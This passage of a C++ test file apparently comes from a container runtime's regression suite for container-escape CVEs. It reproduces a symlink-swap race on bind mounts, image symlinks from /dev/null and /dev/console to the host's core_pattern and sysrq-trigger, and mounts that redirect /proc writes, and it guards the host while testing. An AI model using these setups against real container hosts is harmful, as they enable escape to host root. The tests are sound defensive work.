    GTEST_SKIP() << "renameat2(RENAME_EXCHANGE) unsupported here: " << strerror(errno);

  pid_t swapper = fork();
  if (swapper == 0) {
    prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
    for (;;)
      syscall(SYS_renameat2, AT_FDCWD, race.c_str(), AT_FDCWD, link.c_str(), RENAME_EXCHANGE);
  }
  ASSERT_GT(swapper, 0);
  // Both names are tried: whichever is the directory now, or the symlink (resolved in the root).
  const std::string script =
      "for i in $(seq 200); do cat /race/dst/MOUNTED 2>/dev/null && exit 0; "
      "cat /race-link/dst/MOUNTED 2>/dev/null && exit 0; done; echo NOT-INSIDE; exit 3";
  int ok = 0, failed = 0, iterations = 0;
  auto deadline = std::chrono::steady_clock::now() + 5s;
  for (; iterations < 50 && std::chrono::steady_clock::now() < deadline; iterations++) {
    std::string id = NewId();
    json c = ConfigIn(id, rootfs, {"sh", "-c", script});
    c["mounts"].push_back({{"destination", "/race/dst"},
                           {"type", "bind"},
                           {"source", volume},
                           {"options", {"rbind"}}});
    ExecResult r = RunContainer(id, c);
    if (r.exit_code == 0) {
      ok++;
      EXPECT_EQ(r.out, "volume\n") << Describe(r);
    } else {
      failed++;
      EXPECT_THAT(r.out, Not(HasSubstr("NOT-INSIDE")))
          << "CVE-2021-30465: the container started but its volume is not inside its rootfs\n"
          << Describe(r);
    }
    EXPECT_THAT(HostMountsUnder(tmp_), ::testing::IsEmpty()) << "a mount was left on the host";
    EXPECT_TRUE(fs::is_empty(host_target + "/dst"))
        << "CVE-2021-30465: the volume was mounted on the host directory";
  }
  kill(swapper, SIGKILL);
  waitpid(swapper, nullptr, 0);
  EXPECT_FALSE(PathExists(host_target + "/dst/MOUNTED"));
  EXPECT_TRUE(fs::is_empty(host_target + "/dst"));
  EXPECT_GT(ok, 0) << "no container started in " << iterations << " tries; the race proved nothing";
  RecordProperty("iterations", iterations);
  RecordProperty("started", ok);
}

// ---- CVE-2025-31133 / CVE-2025-52565: /dev/null and /dev/console replaced by symlinks ----------

// A config that uses the rootfs' own /dev (no tmpfs on /dev), as an image-provided /dev would.
void UseTheRootfsDev(json& c) {
  json kept = json::array();
  for (auto& m : c["mounts"])
    if (m["destination"].get<std::string>().rfind("/dev", 0) != 0) kept.push_back(m);
  c["mounts"] = kept;
}

TEST_F(CveTest, CVE_2025_31133_MaskedPathsAreTheRealNullDeviceNotTheImagesDevNull) {
  // The image's /dev/null is a symlink to core_pattern. A runtime that masks /proc/keys etc. by
  // binding "/dev/null" from inside the container would bind core_pattern there instead, and
  // writes "to a masked file" would set the host's core_pattern (kernel upcalls are not
  // namespaced: the next core dump runs a host program as root).
  SKIP_ON_RUNC(
      "runc 1.1.5 is vulnerable to CVE-2025-31133 (fixed in runc 1.2.8): with this image its init "
      "reopens \"/dev/null\" inside the container to replace stdio fds whose st_rdev matches, "
      "follows the "
      "symlink to core_pattern and dups it over the container's stdout, so the container writes "
      "the "
      "host's core_pattern; not run, to keep the host intact");
  if (!PathExists(kCorePattern)) GTEST_SKIP() << "no " << kCorePattern << " on this kernel";
  HostFileGuard core(kCorePattern);
  ASSERT_FALSE(core.saved().empty());
  std::string rootfs = OwnRootfs();
  ASSERT_EQ(symlink(kCorePattern, (rootfs + "/dev/null").c_str()), 0);
  ASSERT_EQ(symlink("/proc/sysrq-trigger", (rootfs + "/dev/console").c_str()), 0);
  std::vector<std::string> masked;
  for (const char* p : {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/latency_stats",
                        "/proc/sched_debug"})
    if (PathExists(p)) masked.push_back(p);
  if (masked.empty()) GTEST_SKIP() << "no maskable /proc file exists on this host";
  std::string script;
  for (auto& p : masked)
    script += "stat -c '%n %F %t:%T' " + p + "; echo \"$(wc -c < " + p +
              ") bytes\"; "
              "echo berth-it-cve-2025-31133 > " +
              p + " 2>/dev/null; ";
  script += "echo done";
  std::string id = NewId();
  json c = ConfigIn(id, rootfs, {"sh", "-c", script});
  UseTheRootfsDev(c);
  ExecResult r = RunContainer(id, c);
  bool host_ok = core.unchanged();
  EXPECT_TRUE(host_ok)
      << "CVE-2025-31133: the host's core_pattern was changed from inside the container to "
      << ReadFileOr(kCorePattern);
  ASSERT_EQ(r.exit_code, 0) << Describe(r);
  auto lines = SplitLines(r.out);
  for (size_t i = 0; i < masked.size(); i++) {
    ASSERT_GT(lines.size(), 2 * i + 1) << r.out;
    bool is_null = lines[2 * i] == masked[i] + " character special file 1:3";
    EXPECT_TRUE(is_null) << "masked path is not the null device: " << lines[2 * i];
    EXPECT_EQ(lines[2 * i + 1], "0 bytes") << masked[i];
  }
}

TEST_F(CveTest, CVE_2025_52565_DevConsoleIsTheContainersPty) {
  // process.terminal: /dev/console is the pty the runtime allocated (bound from the fd it
  // holds), the same device as the process's stdin.
  int master = -1, slave = -1;
  ASSERT_EQ(openpty(&master, &slave, nullptr, nullptr, nullptr), 0) << strerror(errno);
  fcntl(master, F_SETFD, FD_CLOEXEC);
  std::string id = NewId();
  json c = Config(
      id, {"sh", "-c", "stat -c %t:%T /dev/console; stat -L -c %t:%T /proc/self/fd/0; echo done"});
  c["process"]["terminal"] = true;
  Track(id);
  WriteBundle(id, c);
  Process run = SpawnRuntime({"run", "--bundle", BundleDir(id), id}, {.controlling_tty = slave});
  close(slave);
  std::string out;
  auto deadline = std::chrono::steady_clock::now() + 10s;
  while (out.find("done") == std::string::npos && std::chrono::steady_clock::now() < deadline) {
    struct pollfd p {
      master, POLLIN, 0
    };
    if (poll(&p, 1, 100) <= 0) continue;
    char buf[1024];
    ssize_t n = read(master, buf, sizeof buf);
    if (n <= 0) break;
    out.append(buf, n);
  }
  close(master);
  ExecResult r = run.Wait();
  EXPECT_EQ(r.exit_code, 0) << Describe(r) << out;
  auto lines = SplitLines(out);
  ASSERT_GE(lines.size(), 3u) << out;
  EXPECT_EQ(lines[0], lines[1]) << "/dev/console is not the container's pty";
  EXPECT_EQ(lines[0].substr(0, 3), "88:") << "/dev/console is not a devpts device";
}

TEST_F(CveTest, CVE_2025_52565_DevConsoleSymlinkInTheImageIsNotFollowed) {
  // The image's /dev/console points into /proc. Binding the pty "onto /dev/console" by path
  // would put it over that /proc file (the runtime's own writes through it, or the container's,
  // would then reach procfs); creating it by path would open the /proc file.
  if (!PathExists(kCorePattern)) GTEST_SKIP() << "no " << kCorePattern << " on this kernel";
  HostFileGuard core(kCorePattern);
  std::string rootfs = OwnRootfs();
  ASSERT_EQ(symlink(kCorePattern, (rootfs + "/dev/console").c_str()), 0);
  int master = -1, slave = -1;
  ASSERT_EQ(openpty(&master, &slave, nullptr, nullptr, nullptr), 0) << strerror(errno);
  fcntl(master, F_SETFD, FD_CLOEXEC);
  std::string id = NewId();
  json c = ConfigIn(id, rootfs,
                    {"sh", "-c",
                     "stat -c '%F %t:%T' /proc/sys/kernel/core_pattern; "
                     "if [ -L /dev/console ]; then echo link $(readlink /dev/console); "
                     "else stat -c 'console %t:%T' /dev/console; fi; "
                     "stat -L -c 'stdin %t:%T' /proc/self/fd/0; echo done"});
  UseTheRootfsDev(c);
  // devpts is still needed for the pty.
  c["mounts"].push_back(
      {{"destination", "/dev/pts"},
       {"type", "devpts"},
       {"source", "devpts"},
       {"options", {"nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"}}});
  mkdir((rootfs + "/dev/pts").c_str(), 0755);
  ASSERT_EQ(symlink("pts/ptmx", (rootfs + "/dev/ptmx").c_str()), 0);
  c["process"]["terminal"] = true;
  Track(id);
  WriteBundle(id, c);
  Process run = SpawnRuntime({"run", "--bundle", BundleDir(id), id}, {.controlling_tty = slave});
  close(slave);
  std::string out;
  auto deadline = std::chrono::steady_clock::now() + 10s;
  while (out.find("done") == std::string::npos && std::chrono::steady_clock::now() < deadline) {
    struct pollfd p {
      master, POLLIN, 0
    };
    if (poll(&p, 1, 100) <= 0) continue;
    char buf[1024];
    ssize_t n = read(master, buf, sizeof buf);
    if (n <= 0) break;
    out.append(buf, n);
  }
  close(master);
  ExecResult r = run.Wait();
  bool host_ok = core.unchanged();
  EXPECT_TRUE(host_ok) << "CVE-2025-52565: the host's core_pattern changed to "
                       << ReadFileOr(kCorePattern);
  auto lines = SplitLines(out);
  ASSERT_GE(lines.size(), 4u) << Describe(r) << "\n--- terminal ---\n" << out;
  bool proc_intact = lines[0] == "regular empty file 0:0";
  if (RuntimeIsRunc() && !proc_intact)
    GTEST_SKIP() << "runc 1.1.5 is vulnerable to CVE-2025-52565 (binds the pty through the image's "
                    "/dev/console "
                    "symlink; fixed in runc 1.2.8): "
                 << lines[0];
  EXPECT_TRUE(proc_intact) << "the pty was mounted over /proc/sys/kernel/core_pattern: "
                           << lines[0];
  std::string stdin_dev = lines[2].substr(strlen("stdin "));
  if (lines[1].rfind("link ", 0) == 0)
    EXPECT_EQ(lines[1], std::string("link ") + kCorePattern) << "an image symlink was rewritten";
  else
    EXPECT_EQ(lines[1], "console " + stdin_dev)
        << "/dev/console is neither the image's link nor the pty";
  EXPECT_EQ(r.exit_code, 0) << Describe(r);
}

// ---- CVE-2025-52881: the runtime's /proc writes redirected through mounts ----------------------

TEST_F(CveTest, CVE_2025_52881_MountsOverProcFilesAreRefused) {
  // A mount over a /proc file would turn the runtime's own later writes to it (oom_score_adj,
  // attr/exec, sysctls) into writes somewhere else, or make a dangerous file reachable.
  HostFileGuard core(kCorePattern);
  std::string rootfs = OwnRootfs();
  ASSERT_EQ(symlink("/proc/sys/kernel", (rootfs + "/kernel-link").c_str()), 0);
  ASSERT_EQ(symlink("/proc/self", (rootfs + "/self-link").c_str()), 0);
  ASSERT_EQ(symlink("../proc/sys/vm/drop_caches", (rootfs + "/etc/drop-link").c_str()), 0);
  std::string host = MakeDir("redirect-src");
  WriteFile(host + "/f", "0\n");
  mkdir((host + "/d").c_str(), 0755);
  struct Case {
    std::string dest;
    bool dir;
    std::string
        host_file;  // the /proc file it lands on (the case is left out if the host lacks it)
  };
  std::vector<Case> all = {{"/proc/self/oom_score_adj", false, "/proc/self/oom_score_adj"},
                           {"/proc/sys/kernel/core_pattern", false, kCorePattern},
                           {"/proc/sysrq-trigger", false, "/proc/sysrq-trigger"},
                           {"/proc/sys/vm/drop_caches", false, "/proc/sys/vm/drop_caches"},
                           {"/proc/sys/kernel", true, "/proc/sys/kernel"},
                           {"/proc/self/attr/exec", false, "/proc/self/attr/exec"},
                           {"/kernel-link/core_pattern", false, kCorePattern},
                           {"/self-link/oom_score_adj", false, "/proc/self/oom_score_adj"},
                           {"/self-link/attr", true, "/proc/self/attr"},
                           {"/etc/drop-link", false, "/proc/sys/vm/drop_caches"}};
  std::vector<Case> cases;
  for (const Case& k : all)
    if (PathExists(k.host_file)) cases.push_back(k);
  for (const Case& k : cases) {
    SCOPED_TRACE(k.dest);
    std::string id = NewId();
    json c = ConfigIn(id, rootfs, {"true"});
    c["process"]["oomScoreAdj"] = 0;
    c["mounts"].push_back({{"destination", k.dest},
                           {"type", "bind"},
                           {"source", host + (k.dir ? "/d" : "/f")},
                           {"options", {"bind"}}});
    ExecResult r = Create(id, c);
    EXPECT_NE(r.exit_code, 0) << "CVE-2025-52881: a mount over a /proc file was accepted\n"
                              << Describe(r);
    // runc: "<rootfs>/proc/sysrq-trigger" cannot be mounted because it is inside /proc
    EXPECT_THAT(r.err, HasSubstr("inside /proc")) << Describe(r);
    if (r.exit_code != 0) ExpectNoTrace(id);
    EXPECT_THAT(HostMountsUnder(tmp_), ::testing::IsEmpty());
  }
  EXPECT_EQ(ReadFileOr(host + "/f"), "0\n") << "the runtime wrote through the redirected file";
  EXPECT_TRUE(core.unchanged());
}

TEST_F(CveTest, CVE_2025_52881_SysctlAndOomScoreAdjWritesCannotBeRedirected) {
  // The image provides its own /proc (a bind of a directory of symlinks) with a real procfs
  // elsewhere: a runtime that wrote sysctls or oom_score_adj through the container's /proc
  // would write the *host-wide* kernel.core_uses_pid instead. berth writes both before the
  // rootfs exists, in the container's namespaces; runc refuses a non-proc mount on /proc.
  if (!PathExists(kCoreUsesPid)) GTEST_SKIP() << "no " << kCoreUsesPid << " on this kernel";
  HostFileGuard uses_pid(kCoreUsesPid);
  std::string host_fwd = ReadFileOr("/proc/sys/net/ipv4/ip_forward");
  std::string value = Trim(uses_pid.saved()) == "1" ? "0" : "1";  // differs from the host's
  std::string rootfs = OwnRootfs();
  mkdir((rootfs + "/realproc").c_str(), 0755);
  std::string fake = MakeDir("fake-proc");
  fs::create_directories(fake + "/sys/net/ipv4");
  fs::create_directories(fake + "/self");
  std::string target = "/realproc/sys/kernel/core_uses_pid";
  ASSERT_EQ(symlink(target.c_str(), (fake + "/sys/net/ipv4/ip_forward").c_str()), 0);
  ASSERT_EQ(symlink(target.c_str(), (fake + "/self/oom_score_adj").c_str()), 0);
  std::string id = NewId();
  json c =
      ConfigIn(id, rootfs,
               {"sh", "-c", "cat /realproc/sys/net/ipv4/ip_forward /realproc/self/oom_score_adj"});
  json mounts = json::array();
  mounts.push_back(
      {{"destination", "/proc"}, {"type", "bind"}, {"source", fake}, {"options", {"rbind"}}});
  mounts.push_back({{"destination", "/realproc"}, {"type", "proc"}, {"source", "proc"}});
  for (auto& m : c["mounts"])
    if (m["destination"] != "/proc") mounts.push_back(m);
  c["mounts"] = mounts;
  c["linux"]["maskedPaths"] = json::array();
  c["linux"]["readonlyPaths"] = json::array();
  c["linux"]["sysctl"] = {{"net.ipv4.ip_forward", value}};
  c["process"]["oomScoreAdj"] = std::stoi(value);
  ExecResult r = RunContainer(id, c);
  EXPECT_TRUE(uses_pid.unchanged())
      << "CVE-2025-52881: a write of the runtime went through the image's fake /proc "
         "to the host's kernel.core_uses_pid\n"
      << Describe(r);
  EXPECT_EQ(ReadFileOr("/proc/sys/net/ipv4/ip_forward"), host_fwd) << "host sysctl changed";
  if (r.exit_code != 0) {
    ExpectNoTrace(id);
    return;  // refusing the fake /proc is a fine answer too (runc)
  }
  EXPECT_EQ(SplitLines(r.out), (std::vector<std::string>{value, value}))
      << "the sysctl and oom_score_adj must land in the container's own namespace and process";
}

TEST_F(CveTest, CVE_2025_52881_SysctlsLandInTheContainersNamespacesNotTheHosts) {
  for (const char* f : {"/proc/sys/net/ipv4/ip_forward",
                        "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/sys/kernel/msgmax"})
    if (!PathExists(f)) GTEST_SKIP() << "no " << f << " on this kernel";
  std::string host_fwd = ReadFileOr("/proc/sys/net/ipv4/ip_forward");
  std::string host_port = ReadFileOr("/proc/sys/net/ipv4/ip_unprivileged_port_start");
  std::string host_msgmax = ReadFileOr("/proc/sys/kernel/msgmax");
  HostFileGuard core(kCorePattern);
  std::string fwd = Trim(host_fwd) == "1" ? "0" : "1";
  std::string port = Trim(host_port) == "777" ? "778" : "777";
  std::string msgmax = Trim(host_msgmax) == "12345" ? "12346" : "12345";
  ExecResult r = RunSh(
      "cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/ip_unprivileged_port_start "
      "/proc/sys/kernel/msgmax",
      [&](json& c) {
        c["linux"]["sysctl"] = {{"net.ipv4.ip_forward", fwd},
                                {"net.ipv4.ip_unprivileged_port_start", port},
                                {"kernel.msgmax", msgmax}};
      });
  ASSERT_EQ(r.exit_code, 0) << Describe(r);
  EXPECT_EQ(SplitLines(r.out), (std::vector<std::string>{fwd, port, msgmax}));
  EXPECT_EQ(ReadFileOr("/proc/sys/net/ipv4/ip_forward"), host_fwd) << "host sysctl changed";
  EXPECT_EQ(ReadFileOr("/proc/sys/net/ipv4/ip_unprivileged_port_start"), host_port)
      << "host sysctl changed";
  EXPECT_EQ(ReadFileOr("/proc/sys/kernel/msgmax"), host_msgmax) << "host sysctl changed";
  EXPECT_TRUE(core.unchanged());
}

}  // namespace
}  // namespace berth::it
